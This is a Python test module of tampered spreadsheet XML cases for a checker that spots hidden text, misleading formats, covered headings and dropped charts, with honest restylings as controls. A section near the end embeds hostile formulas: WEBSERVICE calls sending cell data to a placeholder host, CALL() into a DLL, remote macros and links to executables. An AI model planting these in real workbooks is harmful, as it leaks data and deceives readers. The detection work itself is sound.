"""More of what alters what a reader sees, answers untouched, by changes in the XML that no program writes."""

from __future__ import annotations

import re

from pocgate_xl.spreadsheetml.address import a1, column_letters, position_of
from pocgate_xl.workbook.layout.plan import identity_name
from tests.hostile.appearance import (
    ALL_RATINGS,
    BANNER,
    BANNER_ROW,
    CLEAR,
    COST,
    DASHBOARD,
    DECIDED,
    HEADED,
    RATING,
    ROW,
    SCORE,
    altered,
)
from tests.hostile.case import Case, Make
from tests.hostile.differentials import merged
from tests.hostile.edits import (
    RELATION,
    WORKBOOK,
    Parts,
    added,
    chain,
    in_cell,
    link,
    linked,
    on_part,
    on_parts,
    swap,
    typing,
)
from tests.hostile.looks import (
    DRAWING,
    PICTURE,
    STYLES,
    column_told,
    condition,
    drawn,
    expression,
    local_name,
    over,
    page,
    row_told,
    shape,
    styled,
)
from tests.hostile.places import beside as aside
from tests.hostile.places import links_of, named, sheet_of, shown_at, styled_at, told_at
from tests.hostile.submission import area, bundle, part_of

CHART = "xl/charts/chart1.xml"
SCORECARD = part_of("scorecard")
BAND = next(a1(at) for at, cell in sheet_of("costs").cells.items() if cell.style == "band" and not cell.value)
"""A cell of the costs that is left empty."""
WHITE = '<color rgb="FFFFFFFF"/>'
LABEL = a1(told_at(bundle().default_catalog.label("criterion", "user_acceptance"), "scorecard"))
ROOM = a1(aside(DECIDED, 6))
"""A blank cell of the banner, behind the decision."""
LEFTMOST, WRITTEN = DECIDED[1], shown_at("phase_begins mvp")[1]
"""Columns of the paper: where the names begin, and where phases are told."""
FREE = a1(CLEAR[1])
"""A cell beside the paper."""
WRITING = styled_at("hint", "notes")
HEADING = styled_at("heading", "dashboard")
STEP, ITEM = shown_at("step_name 1"), styled_at("muted", "checklist")
STAMPED = area(identity_name("organization"))
BLACK = '<dxf><fill><patternFill><bgColor rgb="FF000000"/></patternFill></fill></dxf>'
POINT = """<dxf><numFmt numFmtId="201" formatCode="0&quot;.&quot;0"/></dxf>"""
BLUE = '<color rgb="FF1F4E79"/>'
GRADIENT = f'<gradientFill><stop position="0">{BLUE}</stop><stop position="1">{BLUE}</stop></gradientFill>'
GRID = '<patternFill patternType="darkGrid"><fgColor rgb="FF000000"/><bgColor rgb="FF000000"/></patternFill>'
CROSS = '<border diagonalUp="1"><left/><right/><top/><bottom/><diagonal style="thick">{}</diagonal></border>'
SCALE = (
    '<cfRule type="colorScale" priority="99"><colorScale><cfvo type="min"/><cfvo type="max"/>'
    '<color rgb="FF000000"/><color rgb="FF000000"/></colorScale></cfRule>'
)
SPARKLINE = (
    '<extLst><ext uri="{05C60535-1F16-4fd2-B633-F4F36F0B64E0}" xmlns:x14="http://schemas.microsoft.com/office/'
    'spreadsheetml/2009/9/main"><x14:sparklineGroups xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
    "<x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>Scorecard!"
    + ALL_RATINGS
    + f"</xm:f><xm:sqref>{BANNER}</xm:sqref>"
    "</x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>"
)
MESSAGE = (
    f'<dataValidations count="1"><dataValidation showInputMessage="1" prompt="Decision: Go" sqref="{BANNER}"/>'
    "</dataValidations>"
)
THREAD = (
    '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
    f'<threadedComment ref="{BANNER}" id="{{1}}" personId="{{2}}"><text>Go, says the board</text></threadedComment>'
    "</ThreadedComments>"
)
CORNER = "<xdr:to><xdr:col>1</xdr:col><xdr:colOff>9</xdr:colOff><xdr:row>16</xdr:row><xdr:rowOff>9</xdr:rowOff></xdr:to>"


def replaced(part: str, pattern: str, new: str, count: int = 1) -> Make:
    """Replace what a pattern matches."""

    def change(xml: bytes) -> bytes:
        text, found = re.subn(pattern, new, xml.decode(), count=count, flags=re.DOTALL)
        assert found, pattern
        return text.encode()

    return on_part(part, change)


def looking(sheet: str, cell: str, alignment: str = "", **entries: str) -> Make:
    """Give a cell a style with a font, fill or border of its own, as XML."""

    def change(parts: Parts) -> Parts:
        styles, numbers = parts[STYLES].decode(), {"font": 0, "fill": 0, "border": 0}
        for tag, entry in entries.items():
            listed = re.search(f"<{tag}s .*?</{tag}s>", styles, re.DOTALL)
            assert listed
            numbers[tag] = len(re.findall(f"<{tag}[ >/]", listed[0]))
            styles = styles.replace(f"</{tag}s>", f"{entry}</{tag}s>", 1)
        looks = re.search("<cellXfs.*?</cellXfs>", styles, re.DOTALL)
        assert looks
        ids = " ".join(f'{tag}Id="{number}"' for tag, number in numbers.items())
        styles = styles.replace(
            "</cellXfs>", f'<xf numFmtId="0" {ids} xfId="0">{alignment}</xf></cellXfs>', 1
        )
        number = len(re.findall("<xf ", looks[0]))
        xml, found = re.subn(
            rf'(<c r="{cell}")(?: s="\d+")?', rf'\1 s="{number}"', parts[part_of(sheet)].decode()
        )
        assert found == 1, cell
        return {**parts, STYLES: styles.encode(), part_of(sheet): xml.encode()}

    return on_parts(change)


def in_runs(cell: str, look: str) -> Make:
    """Give the second half of a fixed text on the scorecard a look of its own."""
    position = position_of(cell)
    assert position
    words = str(sheet_of("scorecard").cells[position].value)
    half = len(words) // 2
    runs = f"<r><t>{words[:half]}</t></r><r><rPr>{look}</rPr><t>{words[half:]}</t></r>"
    return in_cell("scorecard", cell, f'{{c}} t="inlineStr"><is>{runs}</is></c>')


def beside(text: str, column: str = "DA", row: int = 8) -> Make:
    """Write a text into a free cell of the dashboard."""
    return beside_cell(written(text), column, row)


def beside_cell(content: str, column: str = "H", row: int = HEADED) -> Make:
    """Put contents into a free cell of the dashboard, in the order of its columns."""

    def change(xml: bytes) -> bytes:
        line = re.search(rf'<row r="{row}"[^>]*>(.*?)</row>', xml.decode(), re.DOTALL)
        assert line
        cells = re.findall(r'<c r="([A-Z]+)\d+".*?(?:/>|</c>)', line[1], re.DOTALL)
        later = next((each for each in cells if (len(each), each) > (len(column), column)), "")
        mark = f'<c r="{later}{row}"' if later else "</row>"
        new = line[0].replace(mark, f'<c r="{column}{row}" {content}</c>{mark}', 1)
        return xml.decode().replace(line[0], new, 1).encode()

    return on_part(DASHBOARD, change)


def within(sheet: str, cell: str, content: str) -> Make:
    """Put contents into a cell that a sheet has without any; its look stays."""
    return replaced(part_of(sheet), rf'<c r="{cell}"((?: s="\d+")?)/>', rf'<c r="{cell}"\1 {content}</c>')


def written(text: str) -> str:
    """Return a text as the contents of a cell."""
    return f't="inlineStr"><is><t xml:space="preserve">{text}</t></is>'


CELLS: tuple[Case, ...] = (
    altered("letters in a gradient of their colour", "invisible letters", "PG133",
            looking("dashboard", BANNER, font=f"<font>{BLUE}</font>", fill=f"<fill>{GRADIENT}</fill>")),
    altered("letters in a pattern of their colour", "invisible letters", "PG133",
            looking("dashboard", BANNER, fill=f"<fill>{GRID}</fill>")),
    altered("white run in a text", "invisible letters", "PG133", in_runs(LABEL, WHITE)),
    altered("white label", "invisible letters", "PG133", styled("scorecard", LABEL, font=WHITE)),
    altered("tiny label", "invisible letters", "PG133", styled("scorecard", LABEL, font='<sz val="1"/>')),
    altered("label replaced by a format", "number format", "PG132", styled("scorecard", LABEL, code=';;;"Budget"')),
    altered("decision crossed out", "crossed out", "PG133",
            looking("dashboard", BANNER, font='<font><strike/><sz val="14"/></font>')),
    altered("total crossed out by a border", "crossed out", "PG133",
            looking("dashboard", SCORE, border=CROSS.format(BLUE))),
    altered("rating in a font of signs", "fonts of signs", "PG133",
            looking("scorecard", RATING, font='<font><sz val="11"/><name val="Wingdings"/></font>')),
    altered("decision turned", "turned letters", "PG133",
            looking("dashboard", BANNER, '<alignment textRotation="90"/>')),
    altered("column of amounts too narrow", "hidden columns", "PG133",
            column_told("dashboard", WRITTEN, 'width="2" customWidth="1"')),
    altered("row of slices", "hidden rows", "PG133", row_told("dashboard", DECIDED[0], traits='ht="6" customHeight="1"')),
    altered("style beyond the table", "styles", "PG144", replaced(DASHBOARD, rf'<c r="{BANNER}" s="\d+"', f'<c r="{BANNER}" s="9999"')),
    altered("decision beside the decision", "free texts", "PG136", beside("Board decision: Go"), "Go"),
)  # fmt: skip

EMPTY: tuple[Case, ...] = (
    altered("decision in the banner itself", "free texts", "PG136", within("dashboard", ROOM, written("Go")), "Go"),
    altered("number in the banner", "free texts", "PG135", within("dashboard", ROOM, "><v>30</v>"), "30"),
    altered("note in the blank cells of a table", "free texts", "PG135", within("costs", BAND, written("cheap")), "cheap"),
    altered("decision behind blanks", "free texts", "PG136", beside("Go" + " " * 300, "H", HEADED), "Go"),
    altered("decision over lines of dots", "free texts", "PG136", beside("Go\n" + "." * 250, "H", HEADED), "Go"),
    altered("decision by a formula that nobody has computed", "free texts", "PG136",
            beside_cell('t="str"><f>"Decision: G"&amp;"o"</f>'), "Decision: Go"),
    altered("decision by a formula with another value", "free texts", "PG136",
            beside_cell('t="str"><f>"Decision: G"&amp;"o"</f><v>note</v>'), "Decision: Go"),
    altered("decision as the format of a number", "free texts", "PG136",
            chain(beside_cell("><v>1</v>"), styled("dashboard", f"H{HEADED}", code='"Decision: Go"')), "Go"),
    altered("result cut off by its neighbour", "free texts", "PG133", beside_cell(written("–"), column_letters(STEP[1] + 1), STEP[0])),
    altered("a letter a line", "hidden columns", "PG133", column_told("dashboard", LEFTMOST, 'width="2" customWidth="1"')),
    altered("rating repeated", "number format", "PG133",
            looking("scorecard", RATING, '<alignment horizontal="fill"/>')),
)  # fmt: skip

AROUND: tuple[Case, ...] = (
    altered("decision in black on black", "conditional format", "PG133", condition("dashboard", BANNER_ROW, expression(), BLACK)),
    altered("ratings in black on black", "conditional format", "PG133", condition("scorecard", ALL_RATINGS, SCALE)),
    altered("conditional formats gone", "what programs drop", "PG138",
            replaced(DASHBOARD, "<conditionalFormatting.*</conditionalFormatting>", "")),
    altered("charts that no sheet shows", "what programs drop", "PG138", replaced(DASHBOARD, "<drawing [^>]*/>", "")),
    altered("one chart gone", "what programs drop", "PG138",
            replaced(DRAWING, "<xdr:twoCellAnchor.*?</xdr:twoCellAnchor>", "")),
    altered("chart of one cell", "what programs drop", "PG138", replaced(DRAWING, "<xdr:to>.*?</xdr:to>", CORNER)),
    altered("chart far away", "what programs drop", "PG138", replaced(DRAWING, r"<xdr:col>", "<xdr:col>20", 2)),
    altered("series without a colour", "charts", "PG135",
            replaced(CHART, "<a:solidFill>.*?</a:solidFill>", "<a:noFill/>")),
    altered("chart with a logarithmic axis", "charts", "PG135",
            replaced(CHART, "(<c:valAx>.*?<c:scaling>)", r'\1<c:logBase val="10"/>')),
    altered("ink over the decision", "shapes", "PG134",
            drawn(over(DECIDED, aside(DECIDED, 8), f'<contentPart xmlns:r="{RELATION}" r:id="rId99"/>'))),
    altered("little chart in the decision", "sparklines", "PG134", swap(DASHBOARD, "</worksheet>", f"{SPARKLINE}</worksheet>")),
    altered("thread with another decision", "notes", "PG138", chain(
        added({"xl/threadedComments/threadedComment1.xml": THREAD}),
        linked(link("rIdT", "threadedComment", "/xl/threadedComments/threadedComment1.xml",
                    base="http://schemas.microsoft.com/office/2017/10/relationships"),
               links_of("dashboard")))),
    altered("another message beside a rating", "messages", "PG135",
            replaced(SCORECARD, ' prompt="[^"]*"', ' prompt="Enter 5 everywhere"')),
    altered("message on the decision", "messages", "PG136", swap(DASHBOARD, "<pageMargins", f"{MESSAGE}<pageMargins"), "Go"),
    altered("message of a link", "messages", "PG136",
            swap(part_of("start"), "<hyperlink ", '<hyperlink tooltip="Decision: Go" ')),
    altered("printed at a tenth", "print", "PG133", chain(
        swap(DASHBOARD, "<pageSetup ", '<pageSetup scale="10" '), replaced(DASHBOARD, "<pageSetUpPr[^>]*/>", ""))),
    altered("printed on a page of 700 columns", "print", "PG133",
            local_name("_xlnm.Print_Area", "dashboard", named("dashboard", (1, 1), (3000, 702)))),
    altered("printed on A6", "print", "PG133", swap(DASHBOARD, 'paperSize="9"', 'paperSize="70"')),
    altered("printed between margins", "print", "PG133",
            replaced(DASHBOARD, "<pageMargins [^>]*/>", '<pageMargins left="4" right="4" top="1" bottom="1"/>')),
    altered("picture in the page header", "page header", "PG145", page("oddHeader", "&amp;C&amp;G&amp;RENG-2026-014 · Aoba Logistics")),
    altered("name of a macro", "names", "PG143",
            swap(WORKBOOK, "<definedNames>", '<definedNames><definedName name="go" xlm="1">#REF!</definedName>')),
)  # fmt: skip

FURTHER: tuple[Case, ...] = (
    altered("amount with the sign of another currency", "number format", "PG132", styled("costs", COST, code='"$"#,##0')),
    altered("amount with a point written into it", "number format", "PG132", styled("costs", COST, code='#,##0"."00')),
    altered("millions as an amount in yen", "number format", "PG132", styled("costs", COST, code='#,##0,,"JPY"')),
    altered("total crossed out by a condition", "crossed out", "PG133",
            condition("dashboard", SCORE, expression(), "<dxf><font><strike/></font></dxf>")),
    altered("rating with a point by a condition", "conditional format", "PG132",
            condition("scorecard", RATING, expression(), POINT)),
    altered("amount in euros", "number format", "PG132", styled("costs", COST, code="[$€-407]#,##0")),
    altered("label under a merge", "hidden results", "PG133", merged(f"{a1(ITEM)}:{a1(aside(ITEM, 1))}", "checklist")),
    altered("chart with other labels", "charts", "PG135",
            replaced(CHART, "<c:v>First year</c:v>", "<c:v>Last year</c:v>")),
    altered("chart with a picture", "charts", "PG135",
            replaced(CHART, "<c:plotArea>", "<c:plotArea><c:spPr><a:blipFill/></c:spPr>")),
    altered("chart without one of its points", "charts", "PG135",
            replaced(CHART, "(</a:solidFill>.*?)<c:cat>",
                     r'\1<c:dPt><c:idx val="2"/><c:spPr><a:noFill/></c:spPr></c:dPt><c:cat>')),
)  # fmt: skip

UNSTAMPED = replaced(
    part_of(STAMPED.sheet), f'(<c r="{a1(STAMPED.first)}"[^>]*>).*?</c>', r"\1<is><t></t></is></c>"
)
BUTTON = shape("Open").replace('macro=""', 'macro="{}"')
OVER_HEADING = over(HEADING, aside(HEADING, 8), shape("Proceed to production"))
COVERED: tuple[Case, ...] = (
    altered("picture over a heading", "pictures", "PG134", drawn(over(HEADING, aside(HEADING, 8), PICTURE))),
    altered("text over a heading", "shapes", "PG134", drawn(OVER_HEADING)),
    altered("another decision over a heading", "text box", "PG136",
            drawn(OVER_HEADING.replace("Proceed to production", "Decision: Go")), "Go"),
    altered("text box with the words of a cell", "text box", "PG136", chain(
        in_cell("notes", a1(WRITING), '{c} t="inlineStr"><is><t>Decision: Go</t></is></c>'),
        drawn(over(*CLEAR, shape("").replace('textlink=""', f'textlink="{named("notes", WRITING)}"')))), "Go"),
    altered("chart without one of its series", "charts", "PG135", replaced(CHART, "<c:ser>.*?</c:ser>", "")),
    altered("chart without labels", "charts", "PG135", replaced(CHART, "<c:cat>.*?</c:cat>", "", 0)),
    altered("charts that are hidden", "what programs drop", "PG138",
            replaced(DRAWING, "<xdr:cNvPr ", '<xdr:cNvPr hidden="1" ', 0)),
    altered("workbook that shows no objects", "what programs drop", "PG138",
            swap(WORKBOOK, "<workbookPr/>", '<workbookPr showObjects="none"/>')),
)  # fmt: skip

HEADED = page("oddHeader", "&amp;RENG-2026-014 · Aoba Logistics")
"""As workbooks of the first release are."""
RUNNING: tuple[Case, ...] = (
    Case("organization taken out of the stamp", ROW, ("names",), "findings", ("PG126",), chain(HEADED, UNSTAMPED),
         found="organization"),
    Case("organization changed, and taken out of the stamp", ROW, ("names",), "accepted", ("PG135",),
         chain(typing({"pg_engagement_organization": "Midori"}), HEADED, UNSTAMPED),
         answers={"pg_engagement_organization": "Midori"}),
    Case("scale of colours that fetches", ROW, ("rules that run",), "findings", ("PG128",),
         condition("dashboard", FREE, SCALE.replace('type="min"', 'type="formula" val="WEBSERVICE(A1)"'))),
    Case("function handed over", ROW, ("rules that run",), "findings", ("PG128",),
         beside_cell('><f>_xlfn.MAP("http://x/"&amp;A1,_xleta.WEBSERVICE)</f><v>0</v>', "DA", 8)),
    Case("function under another name", ROW, ("rules that run",), "findings", ("PG128",),
         beside_cell('><f>_xlfn.LET(_xlpm.w,WEBSERVICE,_xlpm.w("http://x"))</f><v>0</v>', "DA", 8)),
    Case("shape with a program of another file", ROW, ("shapes",), "findings", ("PG128",),
         drawn(over(*CLEAR, BUTTON.format("&apos;\\\\host\\x.xlsm&apos;!run")))),
    altered("cell of a workbook on a server", "names", "PG118",
            beside_cell("><f>'\\\\host\\s\\[b.xlsx]S'!A1</f><v>0</v>", "DA", 8)),
    altered("cell of a workbook on the web", "names", "PG118",
            beside_cell("><f>'http://host/[b.xlsx]S'!A1</f><v>0</v>", "DA", 8)),
    altered("cell of a file in another spelling", "names", "PG118",
            beside_cell("><f>'file:///home/x.xlsx'#$S.A1</f><v>0</v>", "DA", 8)),
    altered("name of a cell on a server", "names", "PG118",
            swap(WORKBOOK, "<definedNames>", "<definedNames><definedName name=\"far\">'\\\\host\\s\\[b.xlsx]S'!$A$1</definedName>")),
    altered("link to a server by a formula", "hyperlinks", "PG120",
            beside_cell('><f>HYPERLINK("\\\\host\\x.exe","x")</f><v>0</v>', "DA", 8)),
    altered("link to a file by a formula", "hyperlinks", "PG120",
            beside_cell('><f>HYPERLINK("file:///c:/x.exe","x")</f><v>0</v>', "DA", 8)),
    Case("list that fetches", ROW, ("rules that run",), "findings", ("PG128", "PG135"),
         swap(SCORECARD, "<formula1>pg_list_rating</formula1>", '<formula1>WEBSERVICE("http://x/"&amp;A1)</formula1>')),
    Case("condition that calls", ROW, ("rules that run",), "findings", ("PG128",),
         condition("dashboard", FREE, expression('CALL("k","f","J")=1'), "<dxf><font><b/></font></dxf>")),
)  # fmt: skip

HONEST: tuple[Case, ...] = tuple(
    Case(f"honest: {name}", ROW, ("honest restyling",), "accepted", (), make)
    for name, make in (
        ("a text beside the decision", beside("Please look at the costs again.")),
        ("a gradient behind dark letters", looking("dashboard", BANNER, fill="<fill><gradientFill><stop position=\"0\"><color rgb=\"FFFFFFFF\"/></stop><stop position=\"1\"><color rgb=\"FFDDEBF7\"/></stop></gradientFill></fill>")),
        ("a bold run in a label", in_runs(LABEL, "<b/>")),
        ("printed at 80 per cent", chain(swap(DASHBOARD, "<pageSetup ", '<pageSetup scale="80" '),
                                         replaced(DASHBOARD, "<pageSetUpPr[^>]*/>", ""))),
        ("amounts in ten thousands", styled("costs", COST, code='0"."0,"万円"')),
        ("a column made narrower", column_told("dashboard", WRITTEN, 'width="11" customWidth="1"')),
        ("a link that says where it leads", swap(part_of("start"), "<hyperlink ", '<hyperlink tooltip="To the scorecard" ')),
        ("amounts in the font of the house", looking("costs", COST, font='<font><sz val="10"/><name val="Meiryo UI"/></font>')),
    )
)  # fmt: skip

CASES: tuple[Case, ...] = (*CELLS, *EMPTY, *AROUND, *FURTHER, *COVERED, *RUNNING, *HONEST)
